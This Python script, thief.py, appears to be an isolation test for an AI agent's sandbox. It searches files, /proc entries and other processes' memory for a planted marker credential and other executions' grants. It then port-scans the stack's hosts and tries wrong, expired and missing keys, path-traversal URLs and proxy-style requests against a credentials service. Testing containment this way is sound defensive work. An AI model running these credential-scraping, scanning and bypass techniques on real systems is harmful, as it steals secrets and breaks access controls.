"""Searches the box for the credential of the model and for the grants of other executions, and uses every port it reaches.

Usage: thief.py FILE, a JSON object with these members:

  names     host names of the stack's services
  ended     the grant of an execution that has ended
  own       a file that will hold this execution's own grant, which the CLI withholds from its tools; null: there is none

The last line of the output is a JSON object:

  keys      where the credential was found; its form is in KEY below
  grants    where a grant was found that is neither this execution's nor the ended one
  searched  how many files, files below /proc and answers of ports were searched
  open      the ports that accepted a connection, as NAME:PORT
  passed    requests to credentials without a grant in force, or for another resource, that had an answer below 400
  forwarded the same, if the answer is one of the model
  own       the statuses of this execution's own requests
  in_env    whether the environment has a grant
"""

import errno
import json
import os
import re
import select
import socket
import stat
import sys
import time

# A test makes the credential in this form.
KEY = re.compile(rb"sk-ant-mark-[0-9a-f]{32}")
GRANT = re.compile(rb"ccg_[A-Za-z0-9_-]{43}")
PATIENCE = 4
PIECE = 1 << 22
# Longer than a key and a grant: a secret may lie across two pieces.
OVERLAP = 64
# Enough of one file: the largest of the image are libraries.
LARGEST = 256 << 20
# Connections that begin at the same time.
BATCH = 500
# The model says this to a path that it does not know.
OF_THE_MODEL = b"no such resource"


class Search:
    def __init__(self, known):
        self.known, self.keys, self.grants = known, set(), set()
        self.searched = {"files": 0, "proc": 0, "answers": 0}

    def text(self, place, data):
        if KEY.search(data):
            self.keys.add(place)
        if any(found.decode() not in self.known for found in GRANT.findall(data)):
            self.grants.add(place)

    def file(self, path, kind, limit=LARGEST):
        try:
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC | os.O_NOCTTY)
        except OSError:
            return
        try:
            before, total = b"", 0
            while total < limit:
                piece = os.read(descriptor, PIECE)
                if not piece:
                    break
                self.text(path, before + piece)
                before, total = piece[-OVERLAP:], total + len(piece)
            self.searched[kind] += total > 0
        except OSError:
            pass
        finally:
            os.close(descriptor)

    def memory(self, process):
        try:
            maps = open(f"{process}/maps").read().splitlines()
            memory = open(f"{process}/mem", "rb", 0)
        except OSError:
            return
        with memory:
            for line in maps:
                span, permissions = line.split()[:2]
                if not permissions.startswith("rw"):
                    continue
                begin, end = (int(part, 16) for part in span.split("-"))
                try:
                    memory.seek(begin)
                    self.text(f"{process}/mem", memory.read(min(end - begin, LARGEST)))
                    self.searched["proc"] += 1
                except (OSError, ValueError, OverflowError):
                    pass

    def processes(self):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            process = f"/proc/{pid}"
            for name in ["environ", "cmdline", "auxv", "stack", "status", "mountinfo", "net/unix", "comm", "limits"]:
                self.file(f"{process}/{name}", "proc")
            for folder in ["fd", "map_files"]:
                try:
                    names = os.listdir(f"{process}/{folder}")
                except OSError:
                    continue
                for name in names:
                    self.file(f"{process}/{folder}/{name}", "proc", PIECE)
            # Its own memory has the texts of this search.
            if int(pid) != os.getpid():
                self.memory(process)

    def files(self):
        # The folder / itself may be closed although folders in it are not.
        tops = {"/", "/bin", "/dev", "/etc", "/home/claude", "/lib", "/opt", "/run", "/run/secrets", "/root", "/spool", "/tmp", "/usr",
            "/var", "/workspace", os.getcwd(), *(value for value in os.environ.values() if value.startswith("/"))}
        seen = set()
        for top in sorted(tops):
            for folder, folders, names in os.walk(top):
                if folder in seen or folder in ("/proc", "/sys"):
                    folders[:] = []
                    continue
                seen.add(folder)
                for name in names:
                    path = os.path.join(folder, name)
                    try:
                        if stat.S_ISREG(os.lstat(path).st_mode):
                            self.file(path, "files")
                    except OSError:
                        pass


def exchange(address, port, sent, patience=PATIENCE):
    """The answer to these bytes until the peer ends it, or what came in time. None: no connection."""
    answer = b""
    try:
        with socket.create_connection((address, port), timeout=patience) as connection:
            try:
                connection.sendall(sent)
                while len(answer) < PIECE:
                    piece = connection.recv(65536)
                    if not piece:
                        break
                    answer += piece
            except OSError:
                pass
    except OSError:
        return None
    return answer


def open_ports(name):
    """Every port of the host that accepts a connection."""
    address, found = socket.gethostbyname(name), []
    for first in range(1, 65536, BATCH):
        connecting, poll = {}, select.poll()
        for port in range(first, min(first + BATCH, 65536)):
            connection = socket.socket()
            connection.setblocking(False)
            error = connection.connect_ex((address, port))
            if error == 0 and connects(connection):
                found.append(port)
            elif error == errno.EINPROGRESS:
                connecting[connection.fileno()] = (connection, port)
                poll.register(connection, select.POLLOUT)
                continue
            connection.close()
        while connecting:
            # A port that drops packets does not answer.
            for descriptor, _ in poll.poll(1000) or [(descriptor, 0) for descriptor in connecting]:
                connection, port = connecting.pop(descriptor)
                poll.unregister(descriptor)
                if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0 and connects(connection):
                    found.append(port)
                connection.close()
    return sorted(found)


def connects(connection):
    """Whether the connection is to a listener. A free port may connect to itself, if the kernel chooses it as the local one."""
    try:
        return connection.getpeername() != connection.getsockname()
    except OSError:
        return False


def request(target, method="GET", headers=(), body=None):
    lines = [f"{method} {target} HTTP/1.1", "Host: credentials:8005", "Connection: close", *headers]
    if body is not None:
        lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"]
    return ("\r\n".join(lines) + "\r\n\r\n" + (body or "")).encode()


PROMPT = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": "@say stolen"}]})
OWN = [("POST", "/v1/messages", PROMPT), ("POST", "/v1/messages?beta=true", PROMPT), ("POST", "/v1/messages/count_tokens", PROMPT)]
OTHER = [
    ("GET", "/", None), ("GET", "/health/live", None), ("GET", "/metrics", None), ("GET", "/stats", None), ("GET", "/health", None),
    ("GET", "/v1/files", None), ("GET", "/v1/messages/batches", None), ("POST", "/v1/messages/batches", PROMPT),
    ("POST", "/v1/complete", PROMPT), ("GET", "/v1/organizations/me", None), ("GET", "/v1/messages/../../stats", None),
    ("GET", "/v1/models/../../stats", None), ("GET", "//stats", None), ("GET", "/v1/models/%2e%2e/%2e%2e/stats", None),
    ("GET", "http://scripted-model:8004/stats", None), ("CONNECT", "scripted-model:8004", None), ("DELETE", "/v1/messages", None),
    ("GET", "/v1/messages?beta=true&x=1", None), ("POST", "/v1/messages#x", PROMPT),
]


def secrets(grant):
    return [f"x-api-key: {grant}"], [f"Authorization: Bearer {grant}"], [f"x-api-key: {grant}", f"Authorization: Bearer {grant}"]


def status(answer):
    try:
        return int(answer.split(maxsplit=2)[1])
    except (AttributeError, IndexError, ValueError):
        return 0


def use_credentials(search, own, ended):
    passed, forwarded, statuses = [], [], {}
    wrong = "ccg_" + "A" * 43
    foreign = [[], *secrets(wrong), *secrets(ended), ["x-api-key: "], ["Authorization: Basic eDp4"], ["x-api-key: sk-ant-x"]]
    jobs = [(method, target, headers, body, False) for headers in foreign for method, target, body in [*OWN, *OTHER]]
    jobs += [(method, target, headers, body, False) for headers in secrets(own) for method, target, body in OTHER]
    jobs += [(method, target, secrets(own)[0], body, True) for method, target, body in OWN]
    for method, target, headers, body, is_own in jobs:
        answer = exchange("credentials", 8005, request(target, method, headers, body))
        search.searched["answers"] += answer is not None
        search.text(f"the answer to {method} {target}", answer or b"")
        if is_own:
            statuses[f"{method} {target}"] = status(answer)
            continue
        what = f"{method} {target} {[header.split(':')[0] for header in headers]} {status(answer)}"
        if status(answer) < 400:
            passed.append(what)
        if OF_THE_MODEL in (answer or b""):
            forwarded.append(what)
    return passed, forwarded, statuses


def main():
    asked = json.load(open(sys.argv[1]))
    in_env = any(GRANT.search(value.encode()) for value in os.environ.values())
    own = ""
    if asked["own"]:
        while not os.path.exists(asked["own"]):
            time.sleep(0.1)
        own = open(asked["own"]).read().strip()
    search = Search({own, asked["ended"], "ccg_" + "A" * 43})
    search.processes()
    search.files()
    reached = []
    for name in [*asked["names"], "127.0.0.1"]:
        for port in open_ports(name):
            reached.append(f"{name}:{port}")
            for sent in [b"", b"\n", b"{}\n", request("/"), request("/health/ready"), request("/metrics"), request("/v1/executions")]:
                answer = exchange(name, port, sent, 1)
                search.searched["answers"] += answer is not None
                search.text(f"an answer of {name}:{port}", answer or b"")
    passed, forwarded, statuses = use_credentials(search, own, asked["ended"])
    print(json.dumps({"keys": sorted(search.keys), "grants": sorted(search.grants), "searched": search.searched, "open": reached,
        "passed": passed, "forwarded": forwarded, "own": statuses, "in_env": in_env}))


main()
